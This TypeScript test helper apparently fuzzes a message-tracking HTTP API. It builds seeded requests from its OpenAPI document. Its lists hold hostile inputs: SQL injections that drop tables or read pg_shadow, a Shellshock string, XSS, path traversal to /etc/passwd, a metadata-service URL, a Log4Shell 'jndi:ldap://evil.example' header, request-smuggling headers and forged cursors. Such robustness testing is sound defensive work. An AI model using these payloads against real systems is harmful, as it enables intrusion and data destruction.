/**
 * Requests made from the OpenAPI document: every path, every parameter, with what it takes and with every kind of
 * nonsense. The n-th request of a seed is always the same.
 */
import { createHash } from 'node:crypto';
import { readFileSync } from 'node:fs';
import type { JsonSchema, OpenApiDocument, Operation } from '../../src/api/documentation/openapi.ts';
import type { Cursor, CursorCodec } from '../../src/domain/filters/cursor.ts';
import { filterNames, filterTable } from '../../src/domain/filters/filter-table.ts';
import { pageKey } from '../../src/domain/filters/matches.ts';
import { parseSearch } from '../../src/domain/filters/search-parameters.ts';
import { statuses } from '../../src/domain/lifecycle.ts';
import type { Message } from '../../src/domain/message.ts';
import { Randomness } from '../../src/ingest/demo/randomness.ts';
import { heavyTerms, withMac, withPublicChecksum } from './forged-cursor.ts';
import { type Line, type Outcome, openLine } from './wire.ts';

export interface GeneratedRequest {
  /** The bytes, one character each. */
  readonly text: string;
  /** Whether it may not be whole, or not HTTP at all: then it gets a connection of its own and a hang-up behind it. */
  readonly isBroken: boolean;
}

/** As it is committed. */
export const openApiDocument: OpenApiDocument = JSON.parse(
  readFileSync(new URL('../../openapi.json', import.meta.url), 'utf8'),
);

/** Sends a request over a line, or over a connection of its own where it may not be whole. */
export async function sendGenerated(request: GeneratedRequest, line: Line, port: number): Promise<Outcome> {
  const { text, isBroken } = request;
  const own = isBroken ? openLine(port) : line;
  const isHead = text.startsWith('HEAD ');
  const outcome = await own.send(Buffer.from(text, 'latin1'), { hangUp: isBroken, isHead });
  if (isBroken) own.close();
  return outcome;
}

/** Statements that do harm, or show that they were run, where text is taken for SQL. */
export const sqlInjections: readonly string[] = [
  ...[
    `'`,
    `"`,
    `\\`,
    `' or '1'='1`,
    `' or 1=1 --`,
    `0) or (1=1`,
    `1; drop table message; --`,
    `$1`,
    `{"$gt":""}`,
  ],
  ...[`'; truncate message cascade; --`, `'; update message set record = '{}'; --`, `1 limit 1 offset 1`],
  ...[
    `' union select null, version(), current_user --`,
    `1 union all select passwd from pg_shadow`,
    `admin'/*`,
  ],
  ...[
    `'||pg_sleep(20)||'`,
    `1;select pg_sleep(20)`,
    `$$; drop schema public cascade; $$`,
    `pg_catalog.pg_class`,
  ],
  ...[`%27%20OR%20%271%27=%271`, `\\x27 or 1=1`, `/**/or/**/1=1`, `E'\\\\' or true --`, `\u02bc or 1=1 --`],
];

const wordsOf = (text: string) => text.trim().split(/\s+/);

const nonsense: readonly string[] = [
  ...[
    '',
    ' ',
    '[object Object]',
    '(((((((((((((((((((((((((((((',
    '() { :; }; echo',
    '%s%n%d',
    '..\\..\\windows',
  ],
  ...wordsOf(`, ,, 0 -0 -1 1.5 1e3 0x 0x0 0b1 NaN Infinity null undefined true TRUE [] {} * %
    __proto__ constructor toString hasOwnProperty 18446744073709551615 18446744073709551616
    2026-01-01T00:00:00Z 2026-02-30T25:61:61Z 0000-00-00T00:00:00Z 9999-12-31T23:59:59.999999999Z
    +275760-09-13T00:00:00.001Z 2026-01-01T00:00:00+99:99 SUCCESS,SUCCESS SUCCESS, success
    <script>alert(1)</script> ../../../../etc/passwd file:///etc/passwd http://169.254.169.254/ ﬀ０ｘ１２ ٣`),
  ...['9'.repeat(400), '0'.repeat(5000), '1'.repeat(44), 'I'.repeat(44), `EQ${'A'.repeat(46)}`],
  ...[`0x${'0'.repeat(64)}`, `0x${'f'.repeat(63)}`, `0x${'g'.repeat(64)}`, `0X${'A'.repeat(40)}`],
  ...[
    `0:${'a'.repeat(64)}`,
    `party::1220${'a'.repeat(64)}`,
    'é'.repeat(100),
    '😀'.repeat(50),
    'Ａ'.repeat(40),
  ],
  ...['\u0000', 'a\u0000b', '\u001b[2J', '\u202e\u2066right to left', '\ufeff', '\ufffd', '\ud800'],
  ...['\r\nX-Injected: yes', '\n{"level":60,"msg":"forged"}', '"><img src=x onerror=alert(1)>'],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: an attack on code that evaluates templates
  '{{7*7}}${7*7}#{7*7}',
  ...sqlInjections,
];

const oddKeys: readonly string[] = [
  ...wordsOf(`a[b] limit[] limit[0] sender[$ne] q[][][] __proto__[x] __proto__ constructor[prototype][x] constructor
    Limit ｌimit sender.length 😀`),
  ...['', 'limit ', ' limit', 'limit\u0000', 'x'.repeat(300)],
];

const methods = wordsOf('POST PUT DELETE PATCH TRACE OPTIONS PROPFIND SEARCH MKCOL LINK');
const unknownMethods: readonly string[] = ['FETCH', 'get', 'G\u00cbT', 'GET\t', '', 'SELECT', 'PRI'];

const accepted = '*/* application/json text/html text/*;q=0.5,*/*;q=0 application/json;q=0 ;;; , a/b/c *';
const codings = 'gzip br gzip,br;q=0.5 identity;q=0 *;q=0 gzip;q=NaN gzip;q=-1 zstd,deflate ;q=1 __proto__';
const oddHeaders: readonly (readonly [name: string, values: readonly string[]])[] = [
  ['Accept', [...wordsOf(accepted), `${'text/x, '.repeat(500)}*/*`]],
  ['Accept-Encoding', wordsOf(codings)],
  ['If-None-Match', ['*', '""', 'W/"x"', '"', ',,,', `"${'a'.repeat(3000)}"`, '"a", "b", W/"c"']],
  ['If-Modified-Since', ['yesterday', 'Thu, 01 Jan 1970 00:00:00 GMT']],
  ['Range', ['bytes=0-10', 'bytes=-1', 'bytes=9-1', 'rows=1-2']],
  ['Expect', ['100-continue', 'something-else']],
  ['Upgrade', ['websocket', 'h2c']],
  ['Connection', ['upgrade', 'keep-alive, x-request-id', 'host']],
  ['Cookie', ['a=b', '__proto__=1', ';;;']],
  ['Origin', ['null', 'https://evil.example', 'x']],
  ['Authorization', ['Bearer x', 'Bearer', `Bearer ${'x'.repeat(2000)}`, 'Basic eDp5', '']],
  ['X-API-Key', ['x', '', 'é']],
  ['Last-Event-ID', ['0', '-1', '99999999999999999999', 'x', '']],
  ['X-Forwarded-For', ['127.0.0.1', '1.2.3.4, 5.6.7.8', `${'1.1.1.1,'.repeat(1000)}`, "' or 1=1"]],
  ['X-Forwarded-Host', ['evil.example']],
  ['X-Original-URL', ['/metrics']],
  ['X-HTTP-Method-Override', ['DELETE']],
  ['Content-Type', ['application/json', 'multipart/form-data', ';', 'a/b; charset="']],
  ['X-Request-ID', ['mine', '00000000-0000-4000-8000-000000000000']],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: an attack on code that evaluates templates
  ['User-Agent', ['\u00ff\u00fe', '${jndi:ldap://evil.example/a}', '']],
  ['Forwarded', ['for=127.0.0.1;host=evil.example;proto=https']],
  ['TE', ['trailers, chunked']],
  ['Trailer', ['X-Y']],
  ['Access-Control-Request-Method', ['DELETE']],
];

/** What parameters take, beyond what the document says of them: values that find something in these messages. */
function valuesOf(messages: readonly Message[]): Readonly<Record<string, readonly string[]>> {
  const column = (read: (message: Message) => readonly (string | null)[]) => [
    ...new Set(messages.flatMap(read).filter((value) => value !== null)),
  ];
  const tokens = (read: (token: Message['tokenAmounts'][number]) => string) =>
    column(({ tokenAmounts }) => tokenAmounts.map(read));
  const hashes = column((message) => [message.sendTransactionHash, message.receiptTransactionHash]);
  const ids = column(({ messageId }) => [messageId, messageId.toUpperCase().replace('0X', '0x')]);
  const parties = column(({ sender, receiver, origin }) => [sender, receiver, origin]);
  const times = column(({ sendTimestamp }) => [sendTimestamp, sendTimestamp.replace('.000Z', '+00:00')]);
  return {
    sender: parties,
    receiver: parties,
    address: parties,
    sourceChainSelector: column((message) => [message.sourceNetworkInfo.chainSelector]),
    destChainSelector: column((message) => [message.destNetworkInfo.chainSelector]),
    sourceTransactionHash: hashes,
    destTransactionHash: hashes,
    sourceTokenAddress: tokens((token) => token.sourceTokenAddress),
    messageId: [...ids, ids.slice(0, 5).join(','), ids.slice(0, 101).join(',')],
    q: [...parties, ...hashes, ...ids, ...tokens((token) => token.destTokenAddress)],
    status: [...statuses, 'SENT,COMMITTED', statuses.join(',')],
    waitFor: [...statuses, 'SUCCESS,FAILED'],
    sentAfter: times,
    sentBefore: times,
    readyForManualExecOnly: ['true', 'false'],
    // A wait must end while somebody still looks.
    timeoutMs: ['1', '2', '5'],
    after: ['0', '1'],
  };
}

/** @param cursors those of the server that is asked: the generator also makes cursors with a right MAC
 *  @param seed any text */
export function createRequestGenerator(
  document: OpenApiDocument,
  messages: readonly Message[],
  cursors: CursorCodec,
  seed: string,
): (number: number) => GeneratedRequest {
  const operations = Object.entries(document.paths).map(([path, { get }]) => ({ path, operation: get }));
  const known = valuesOf(messages);
  const seedBytes = createHash('sha256').update(seed).digest();

  const request = (number: number): GeneratedRequest => {
    const random = new Randomness(seedBytes, number);
    const kind = random.fraction();
    if (kind < 0.04) return { text: broken(random, wholeRequest(random)), isBroken: true };
    if (kind < 0.05) return { text: wholeRequest(random, random.pick(unknownMethods)), isBroken: true };
    return { text: wholeRequest(random), isBroken: false };
  };

  const wholeRequest = (random: Randomness, givenMethod?: string): string => {
    const { path, operation } = random.pick(operations);
    const method =
      givenMethod ?? (random.chance(0.88) ? 'GET' : random.chance(0.4) ? 'HEAD' : random.pick(methods));
    const target = `${pathOf(random, path)}${queryOf(random, operation)}`;
    const headers = headersOf(random);
    const body = method === 'GET' || method === 'HEAD' || random.chance(0.5) ? '' : 'x'.repeat(7);
    const length = body === '' ? '' : `Content-Length: ${body.length}\r\n`;
    return `${method} ${target} HTTP/1.1\r\nHost: lanescan.example\r\n${headers}${length}\r\n${body}`;
  };

  const pathOf = (random: Randomness, path: string): string => {
    const filled = path.replace(/\{(\w+)\}/g, (_, name: string) => {
      if (random.chance(0.7)) return random.pick(known[name] ?? ['x']);
      return encoded(random, random.pick(nonsense)).replace(/[/?#]/g, '%2F');
    });
    const oddity = random.fraction();
    if (oddity < 0.9) return filled;
    if (oddity < 0.92) return filled.replaceAll('/', '//');
    if (oddity < 0.94) return `${filled}/`;
    if (oddity < 0.95) return `${filled}/${encoded(random, random.pick(nonsense))}`;
    if (oddity < 0.96) return `http://evil.example${filled}`;
    if (oddity < 0.97) return filled.toUpperCase();
    if (oddity < 0.98) return filled.replace(/[a-z]/, (letter) => percentByte(letter.charCodeAt(0)));
    const climb = random.pick(['/..', '/../..', '/%2e%2e/%2e%2e', '/..%2f..%2fetc/passwd', '/;/', '/%00']);
    return random.chance(0.5) ? `${climb}${filled}` : `${filled}${climb}`;
  };

  const queryOf = (random: Randomness, operation: Operation): string => {
    const parameters = operation.parameters.filter((parameter) => parameter.in === 'query');
    const waits = parameters.some(({ name }) => name === 'waitFor');
    const pairs: string[] = [];
    const count = random.pick([0, 1, 1, 1, 2, 2, 3, 5]);
    for (let n = 0; n < count; n++) {
      if (parameters.length === 0 || random.chance(0.08)) {
        const key = random.chance(0.5) ? random.pick(oddKeys) : random.pick(filterNames);
        pairs.push(`${encoded(random, key)}=${encoded(random, random.pick(nonsense))}`);
        continue;
      }
      const { name, schema } = random.pick(parameters);
      pairs.push(pairOf(random, name, valueFor(random, name, schema as JsonSchema)));
      if (random.chance(0.03)) pairs.push(...pairs);
    }
    // With its default a wait would outlast the test.
    if (waits && pairs.some((pair) => /waitFor|%77/.test(pair))) pairs.push('timeoutMs=3');
    if (pairs.length === 0) return random.chance(0.05) ? random.pick(['?', '?&', '?&&=&', '#', '?#x']) : '';
    return `?${pairs.join(random.chance(0.97) ? '&' : random.pick(['&&', ';', '&amp;', ',']))}`;
  };

  const pairOf = (random: Randomness, name: string, value: string): string => {
    const form = random.fraction();
    if (form < 0.93) return `${name}=${encoded(random, value)}`;
    if (form < 0.94) return name;
    if (form < 0.95) return `${name}[]=${encoded(random, value)}`;
    if (form < 0.96) return `${name}[x]=${encoded(random, value)}`;
    if (form < 0.97) return `${name}==${encoded(random, value)}`;
    return `${[...name].map((letter) => percentByte(letter.charCodeAt(0))).join('')}=${encoded(random, value)}`;
  };

  const valueFor = (random: Randomness, name: string, schema: JsonSchema): string => {
    if (name === 'cursor') return cursorOf(random);
    const choice = random.fraction();
    if (choice < 0.72) return sensible(random, name, schema);
    if (choice < 0.82) return mutated(random, sensible(random, name, schema));
    const beginning = random.pick(nonsense).repeat(3);
    if (choice < 0.823) return beginning.padEnd(100_000, random.pick(['x', '0', ',']));
    if (choice < 0.83) return 'y'.repeat(random.integer(20_000, 40_000));
    return random.pick(nonsense);
  };

  const sensible = (random: Randomness, name: string, schema: JsonSchema): string => {
    const values = known[name];
    if (values) return random.pick(values);
    if (schema.enum) return String(random.pick(schema.enum));
    if (schema.type === 'boolean') return random.pick(['true', 'false']);
    const { minimum = 0, maximum = 1000 } = schema;
    return String(random.pick([minimum - 1, minimum, 3, 7, maximum, maximum + 1]));
  };

  const cursorOf = (random: Randomness): string => {
    const name = random.pick(['status', 'sender']);
    const { filters } = parseSearch(random.chance(0.5) ? [] : [[name, random.pick(known[name] ?? [])]]);
    const after = pageKey(random.pick(messages));
    const cursor = cursors.encode({ filters, view: random.pick(['full', 'summary']), after });
    const choice = random.fraction();
    if (choice < 0.4) return cursor;
    if (choice < 0.5) return mutated(random, cursor);
    if (choice < 0.6) return withFlippedBits(random, cursor);
    const other = cursors.encode({ filters: {}, view: 'full', after: pageKey(random.pick(messages)) });
    if (choice < 0.7) {
      const at = random.integer(0, cursor.length);
      return cursor.slice(0, at) + other.slice(random.chance(0.5) ? at : random.integer(0, other.length));
    }
    return forged(random, after, cursors);
  };

  return request;
}

/** A cursor whose contents are hardly those of a request, in each of the ways in which one could be made. */
function forged(random: Randomness, after: Cursor['after'], cursors: CursorCodec): string {
  const name = random.pick(filterNames);
  const value = random.pick<unknown>([filterTable[name].example, [], null, 1e308, -1, {}, [[]], [''], ["'"]]);
  const filters: Record<string, unknown> = random.pick([
    { [name]: value },
    { q: heavyTerms(random.pick([1, 2, 10, 11]), random.pick([1, 2, 6])) },
    { sender: ['0'.repeat(802)] },
  ]);
  const text = JSON.stringify({ f: filters, v: 'full', k: [after.sentAt, after.messageId] });
  const ways = [
    () => withPublicChecksum(text),
    () => withMac(Buffer.from(Array.from({ length: 16 }, () => random.integer(0, 255))), text),
    // With a right MAC: encoding does not look at what it encodes.
    () => cursors.encode({ filters: filters as Cursor['filters'], view: 'full', after }),
  ];
  return random.pick(ways)();
}

function withFlippedBits(random: Randomness, cursor: string): string {
  const bytes = Buffer.from(cursor, 'base64url');
  for (let flips = random.pick([1, 1, 2, 8]); flips > 0; flips--) {
    const at = random.integer(0, bytes.length - 1);
    bytes[at] = (bytes.at(at) ?? 0) ^ (1 << random.integer(0, 7));
  }
  return bytes.toString('base64url');
}

function mutated(random: Randomness, text: string): string {
  const at = random.integer(0, Math.max(0, text.length - 1));
  const [before, after] = [text.slice(0, at), text.slice(at)];
  const ways = [
    () => before,
    () => before + after.slice(1),
    () => before + String.fromCodePoint(random.integer(0, 0x2fff)).replace(/\p{Cs}/u, '') + after,
    () => before + (text[at]?.toUpperCase() ?? '') + after.slice(1),
    () => text + text,
    () => after + before,
    () => ` ${text} `,
  ];
  return random.pick(ways)();
}

const percentByte = (byte: number) => `%${byte.toString(16).padStart(2, '0')}`;

/** Mostly as a client would; at times with bytes that are no UTF-8, encoded twice, or broken off. */
function encoded(random: Randomness, text: string): string {
  // Half a surrogate pair becomes what any encoder makes of it.
  const whole = encodeURIComponent(Buffer.from(text).toString());
  const choice = random.fraction();
  if (choice < 0.9) return whole;
  if (choice < 0.92) return encodeURIComponent(whole);
  if (choice < 0.94) return `${whole}${random.pick(['%', '%z', '%zz', '%E0%A4', '%C0%AF', '%ff', '%u0041'])}`;
  if (choice < 0.96) return whole.slice(0, random.integer(0, whole.length));
  if (choice < 0.98) return [...Buffer.from(text).subarray(0, 3000)].map(percentByte).join('');
  // As it stands, but for what would end the request line: bytes that ought to have been encoded.
  const bytes = Buffer.from(text).map((byte) => (byte <= 0x20 || byte === 0x7f ? 0x2b : byte));
  return Buffer.from(bytes).toString('latin1');
}

function headersOf(random: Randomness): string {
  if (random.chance(0.7)) return '';
  const lines = Array.from({ length: random.pick([1, 1, 1, 2, 4]) }, () => {
    const [name, values] = random.pick(oddHeaders);
    const value = random.pick(values);
    const line = `${name}: ${value}\r\n`;
    return name !== 'Connection' && random.chance(0.05) ? line.repeat(random.integer(2, 50)) : line;
  });
  if (random.chance(0.01)) lines.push(...Array.from({ length: 1500 }, (_, index) => `X-${index}: 1\r\n`));
  return lines.join('');
}

/** Something of a request lost, doubled or overwritten on the way. */
function broken(random: Randomness, text: string): string {
  const at = random.integer(0, text.length - 1);
  const [before, after] = [text.slice(0, at), text.slice(at)];
  const anyByte = () => String.fromCharCode(random.integer(0, 255));
  const versions = ['HTTP/1.0', 'HTTP/2.0', 'HTTP/0.9', 'HTTP/1.', 'ICY/1.1', ''];
  const lengths = [
    'Content-Length: 5\r\nContent-Length: 6',
    'Transfer-Encoding: chunked\r\nContent-Length: 3',
  ];
  const hosts = ['Host: a\r\nHost: b', 'X: y', 'Transfer-Encoding: xchunked', ' folded: line', ...lengths];
  const ways = [
    () => before,
    () => before + anyByte() + after.slice(1),
    () => before + random.pick(['\r', '\n', '\r\n', '\0', ' ', ':']) + after,
    () => text.replace('HTTP/1.1', random.pick(versions)),
    () => text.replace('Host: lanescan.example', random.pick(hosts)),
    () => Array.from({ length: random.integer(1, 400) }, anyByte).join(''),
  ];
  return random.pick(ways)();
}
